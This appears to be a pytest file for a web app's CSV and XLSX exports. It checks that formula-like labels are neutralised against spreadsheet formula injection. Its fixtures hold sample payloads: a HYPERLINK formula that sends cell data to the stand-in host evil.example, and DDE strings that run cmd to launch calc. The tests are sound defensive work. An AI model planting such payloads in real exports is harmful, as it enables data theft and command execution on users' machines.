"""Formula injection (OWASP CSV injection): a label that starts like a formula never runs in a
spreadsheet.

In CSV such a cell starts with a single quote; in XLSX it is a text cell (never a formula)
showing the label."""
import csv
import io

import pytest
from export_helpers import seed_contacts
from openpyxl import load_workbook
from sqlalchemy import select

from outreach.cells import is_formula_like, neutralise
from outreach.extensions import db
from outreach.models import Indicator, RefItem, Sector, Team

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"cliquer")'
PLUS, MINUS, AT = "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"


def _plant(app, indicator_numerator="contacts"):
    """Formula-like labels in an indicator, a sector, a programme and a team code."""
    with app.app_context():
        indicator = db.session.execute(
            select(Indicator).filter_by(numerator=indicator_numerator)).scalars().first()
        indicator.name = EVIL
        db.session.execute(select(Sector).filter_by(code="stalingrad")).scalar_one().label = PLUS
        db.session.execute(
            select(RefItem).filter_by(kind="programme", code="assore")).scalar_one().label = AT
        db.session.execute(select(Team).filter_by(code="aurore_nord")).scalar_one().code = MINUS
        code = indicator.code
        db.session.commit()
        return code


def _period(day):
    return {"period": "custom", "from": day.strftime("%Y-%m"), "to": day.strftime("%Y-%m")}


def _csv_cells(response):
    return [c for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";")
            for c in row]


def _xlsx_cells(response):
    book = load_workbook(io.BytesIO(response.data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
            if c.value is not None]


def _assert_csv_neutralised(cells, *labels):
    for label in labels:
        assert "'" + label in cells, label
        assert label not in cells, label


def _assert_xlsx_text(cells, *labels):
    assert not [c.value for c in cells if c.data_type == "f"]  # no formula at all
    values = {c.value for c in cells}
    for label in labels:
        assert label in values, label


@pytest.mark.parametrize("value, expected", [
    (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-x", "'-x"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-3,5", "-3,5"), ("+12", "+12"), ("stalingrad", "stalingrad"), (7, 7), (None, None),
    ("< 5", "< 5")])
def test_the_one_rule(value, expected):
    assert neutralise(value) == expected
    assert is_formula_like(value) == (value != expected)


def test_dashboard_exports(app, client, login):
    day = seed_contacts(app)
    _plant(app)
    login("manager@plan.demo")
    _assert_csv_neutralised(
        _csv_cells(client.get("/export/indicateurs.csv", query_string=_period(day))), EVIL)
    _assert_xlsx_text(
        _xlsx_cells(client.get("/export/indicateurs.xlsx", query_string=_period(day))), EVIL)


def test_drill_down_and_funnel_exports(app, client, login):
    day = seed_contacts(app)
    code = _plant(app)
    login("manager@plan.demo")
    by_sector = {**_period(day), "by": "sector"}
    _assert_csv_neutralised(
        _csv_cells(client.get(f"/export/indicateurs/{code}.csv", query_string=by_sector)), PLUS)
    _assert_xlsx_text(
        _xlsx_cells(client.get(f"/export/indicateurs/{code}.xlsx", query_string=by_sector)), PLUS)
    _assert_xlsx_text(_xlsx_cells(client.get("/export/parcours.xlsx", query_string=_period(day))),
                      AT)
    _assert_csv_neutralised(
        _csv_cells(client.get("/export/parcours.csv", query_string=_period(day))), AT)


def test_contact_rows_export(app, client, login):
    seed_contacts(app)
    _plant(app)
    login("admin@aurore.demo")
    _assert_csv_neutralised(_csv_cells(client.get("/export/contacts.csv")), MINUS)


def test_plan_export_and_import_template(app, client, login):
    _plant(app)
    login("admin@aurore.demo")
    _assert_csv_neutralised(_csv_cells(client.get("/plan/export/csv")), EVIL)
    _assert_xlsx_text(_xlsx_cells(client.get("/import/modele.xlsx")), AT, PLUS)
